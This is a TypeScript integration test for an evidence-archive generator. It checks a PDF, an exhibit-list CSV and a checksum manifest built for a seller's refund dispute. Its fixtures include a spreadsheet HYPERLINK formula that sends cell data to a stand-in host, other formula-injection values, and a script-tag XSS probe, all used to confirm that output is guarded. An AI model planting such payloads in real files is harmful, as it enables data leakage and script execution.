import { strict as assert } from 'node:assert';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import {
  createTypesetClient,
  inspectFile,
  placeExhibit,
  type ArchiveJob,
  type TypesetClient,
} from '../../main/documents/index.ts';
import {
  archiveLabels,
  citationText,
  exhibitLabel,
  exhibitListCsv,
  fillLabel,
  manifestText,
  planOriginals,
  type ArchiveExhibit,
} from '../../shared/packets/index.ts';
import { squeeze } from '../helpers/pdf.ts';
import { INSTANT, picture, statementJob } from '../integration/documents/samples.ts';

export const name = 'archive: PDF, exhibit list and manifest';
export const tools = ['qpdf', 'pdftotext', 'exiftool', 'sha256sum', 'soffice'];
export const aptPackages = [
  'qpdf',
  'poppler-utils',
  'libimage-exiftool-perl',
  'coreutils',
  'libreoffice-calc',
];

const tool = promisify(execFile);
const TITLE = '买家一次下单十二件后全部退款（“恶拍”）';
const SECRET = 'SECRETMAKER';
const CHAT = ['[10:01] 买家：全部退掉', '[10:02] 卖家：好的，请说明原因', '=1+1 不是算式'];
const labels = archiveLabels('zh-CN');

interface Original {
  readonly fileName: string;
  readonly description: string;
  readonly shows: string;
  readonly orders: readonly string[];
  readonly content: Uint8Array;
}

/** A photo that says who took it, a screenshot taller than a page, a PDF, a chat log, and a file that is only listed. */
async function originals(client: TypesetClient): Promise<Original[]> {
  const photo = picture(900, 600).withExif({ IFD0: { Make: SECRET, Artist: SECRET } });
  const waybill = statementJob(['底单内页：本件已于2026年11月3日签收。'.repeat(90)]);
  return [
    {
      fileName: '面单照片.jpg',
      description: '面单照片',
      shows: '包裹已按时发出',
      orders: ['8012345678901234567'],
      content: await photo.jpeg().toBuffer(),
    },
    {
      fileName: '聊天长截图.png',
      description: '=HYPERLINK("http://a.b/?"&A1,"看")',
      shows: '买家要求全部退款，\n没有说明原因',
      orders: ['8012345678901234567', '0012345678901234568'],
      content: await picture(500, 5200).png().toBuffer(),
    },
    {
      fileName: '底单, "盖章".pdf',
      description: '+8613800000000 提供的底单',
      shows: '运单已签收',
      orders: ['1E15'],
      content: (await client.pdf(waybill)).bytes,
    },
    {
      fileName: '聊天记录 😀.txt',
      description: '@聊天记录',
      shows: '-买家原话',
      orders: [],
      content: new TextEncoder().encode(CHAT.join('\r\n')),
    },
    {
      fileName: '商品页.html',
      description: '商品页',
      shows: '商品描述无误',
      orders: [],
      content: new TextEncoder().encode('<!doctype html><script>alert(1)</script>'),
    },
  ];
}

async function placeAll(files: readonly Original[], folder: string) {
  const placed: Record<string, Uint8Array> = {};
  const exhibits: ArchiveExhibit[] = [];
  for (const [index, { content, ...told }] of files.entries()) {
    const source = join(folder, `source-${index}`);
    await writeFile(source, content);
    const inspection = await inspectFile(source);
    const { placement, bytes } = await placeExhibit(
      `/files/${index}`,
      { size: content.length, read: () => Promise.resolve(content) },
      inspection,
    );
    if (bytes) placed[`/files/${index}`] = bytes;
    exhibits.push({
      ...told,
      label: exhibitLabel(index + 1, 'number', 'zh-CN'),
      mediaType: inspection.mediaType,
      bytes: content.length,
      sha256: createHash('sha256').update(content).digest('hex'),
      placement,
    });
  }
  assert.deepEqual(
    exhibits.map(({ placement }) => placement.kind),
    ['image', 'image', 'pdf', 'text', 'listed'],
  );
  return { placed, exhibits };
}

function archive(exhibits: readonly ArchiveExhibit[], files: ArchiveJob['files']): ArchiveJob {
  const sentences = exhibits.map((exhibit, index) => ({
    text: `第${index + 1}件事：${squeeze(exhibit.shows)}，订单 ${exhibit.orders.join('、')} 与此有关 <b>&amp;。`,
    citations: [{ exhibit: index, page: 1, text: citationText(labels, exhibit.label, 1) }],
  }));
  const cover = {
    platform: '某平台',
    store: '示例店',
    scenario: '恶意下单',
    caseNumber: '2026-118',
    orderCount: 2,
    date: '2026-11-23' as const,
  };
  const sections = [
    { heading: '发生了什么', paragraphs: sentences.map((sentence) => ({ sentences: [sentence] })) },
  ];
  const data = {
    language: 'zh-CN' as const,
    labels,
    heading: labels.statement,
    title: TITLE,
    cover,
    sections,
    orderTables: [],
    plan: null,
    exhibits,
  };
  return { template: 'archive', instant: INSTANT, files, data };
}

async function checkPdf(path: string, { data }: ArchiveJob): Promise<void> {
  const { stdout } = await tool('qpdf', ['--check', path]);
  assert.match(stdout, /No syntax or stream encoding errors found/);

  const { stdout: printed } = await tool('pdftotext', ['-enc', 'UTF-8', path, '-'], { maxBuffer: 1e8 });
  const words = squeeze(printed);
  const expected = [
    data.title,
    ...data.sections.flatMap(({ heading, paragraphs }) => [
      heading,
      ...paragraphs.flatMap(({ sentences }) =>
        sentences.flatMap(({ text, citations }) => [text, ...citations.map((citation) => citation.text)]),
      ),
    ]),
    ...data.exhibits.flatMap(({ label, description, sha256, orders }) => [
      fillLabel(labels.stamp, { label, page: 1, total: '' }).replace(/\D+$/, ''),
      `${label}${description}`,
      sha256,
      ...orders,
    ]),
    ...CHAT,
    labels.reasonHtml,
  ];
  for (const each of expected) assert.ok(words.includes(squeeze(each)), `pdftotext does not find: ${each}`);

  const plain = `${path}.plain`;
  await tool('qpdf', ['--qdf', '--object-streams=disable', path, plain]);
  const bytes = await readFile(plain);
  assert.ok(bytes.includes('/StructTreeRoot'), 'the PDF is not tagged');
  assert.ok(!bytes.includes(SECRET), 'the PDF tells who took the photo');
}

/** What a PDF says about itself: nothing but what it is, its title, its language, its maker and the freeze instant. */
async function checkMetadata(path: string): Promise<void> {
  const { stdout } = await tool('exiftool', ['-json', '-a', '-G', path]);
  const [all] = JSON.parse(stdout) as [Record<string, unknown>];
  const told = Object.entries(all).filter(([key]) => /^(PDF|XMP):/.test(key));
  const freeze = '2026:11:23 03:04:05Z';
  const said = new Map(told.map(([key, value]) => [key.split(':')[1], value]));
  for (const key of ['XMPToolkit', 'InstanceID', 'DocumentID', 'PageCount', 'NPages']) said.delete(key);
  assert.deepEqual(Object.fromEntries(said), {
    PDFVersion: 1.7,
    Linearized: 'No',
    TaggedPDF: 'Yes',
    Format: 'application/pdf',
    RenditionClass: 'proof',
    Language: 'zh-CN',
    Creator: 'Typst 0.14.2',
    CreatorTool: 'Typst 0.14.2',
    Title: TITLE,
    CreateDate: freeze,
    ModifyDate: freeze,
  });
}

async function checkManifest(
  folder: string,
  files: readonly Original[],
  exhibits: readonly ArchiveExhibit[],
) {
  const plan = planOriginals(
    exhibits.map(({ label, fileName, sha256 }) => ({ exhibit: label, name: fileName, sha256 })),
    'utf8',
  );
  const entries: { path: string; sha256: string }[] = [];
  for (const { path, source } of plan) {
    if (source.kind !== 'blob') continue;
    const original = files[exhibits.findIndex(({ sha256 }) => sha256 === source.sha256)];
    assert.ok(original);
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), original.content);
    entries.push({ path, sha256: source.sha256 });
  }
  assert.equal(entries.length, files.length);
  await writeFile(join(folder, 'sums'), manifestText(entries));
  const { stdout } = await tool('sha256sum', ['--check', '--strict', 'sums'], { cwd: folder });
  assert.equal(stdout.match(/: OK$/gm)?.length, files.length);
  const [first] = entries;
  await writeFile(join(folder, first?.path ?? ''), 'changed');
  await assert.rejects(tool('sha256sum', ['--check', '--strict', 'sums'], { cwd: folder }));
}

/**
 * Opens the list as a double click does, and looks at the cells: text as it was, nothing that is worked out. A last line
 * without our guard shows that this spreadsheet would have spoilt it.
 */
async function checkList(folder: string, exhibits: readonly ArchiveExhibit[]): Promise<void> {
  const office = (format: string, source: string, ...more: readonly string[]) =>
    tool('soffice', [
      `-env:UserInstallation=${pathToFileURL(join(folder, 'office')).href}`,
      '--headless',
      ...more,
      '--convert-to',
      format,
      '--outdir',
      join(folder, 'converted'),
      join(folder, source),
    ]);
  const written = exhibitListCsv(labels, exhibits);
  await writeFile(join(folder, 'list.csv'), `${written}8012345678901234567,=1+1\r\n`);
  await office('fods', 'list.csv', '--infilter=CSV:44,34,76,1');
  const sheet = await readFile(join(folder, 'converted/list.fods'), 'utf8');
  assert.equal(sheet.match(/table:formula=/g)?.length, 1, 'a guarded cell became a formula');
  await office('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false', 'converted/list.fods');
  const shown = await readFile(join(folder, 'converted/list.csv'), 'utf8');
  const seen: string[][] = parse(shown, { bom: true });
  const unguarded = seen.pop() ?? [];
  assert.notEqual(unguarded[0], '8012345678901234567');
  assert.equal(unguarded[1], '2');
  assert.deepEqual(seen, parse(written, { bom: true, record_delimiter: '\r\n' }));
  const column = seen[0]?.indexOf(labels.orders) ?? -1;
  assert.deepEqual(
    seen.slice(1).map((row) => row[column]),
    ["'8012345678901234567", '8012345678901234567 0012345678901234568', "'1E15", '', ''],
  );
  assert.equal(seen[2]?.[1], `'${exhibits[1]?.description}`);
}

export async function run(): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), 'archive-outside-'));
  const client = createTypesetClient();
  try {
    const files = await originals(client);
    const { placed, exhibits } = await placeAll(files, folder);
    const job = archive(exhibits, placed);
    const path = join(folder, 'archive.pdf');
    await writeFile(path, (await client.pdf(job)).bytes);
    await checkPdf(path, job);
    await checkMetadata(path);
    await checkManifest(folder, files, exhibits);
    await checkList(folder, exhibits);
  } finally {
    await client.close();
    await rm(folder, { recursive: true, force: true });
  }
}
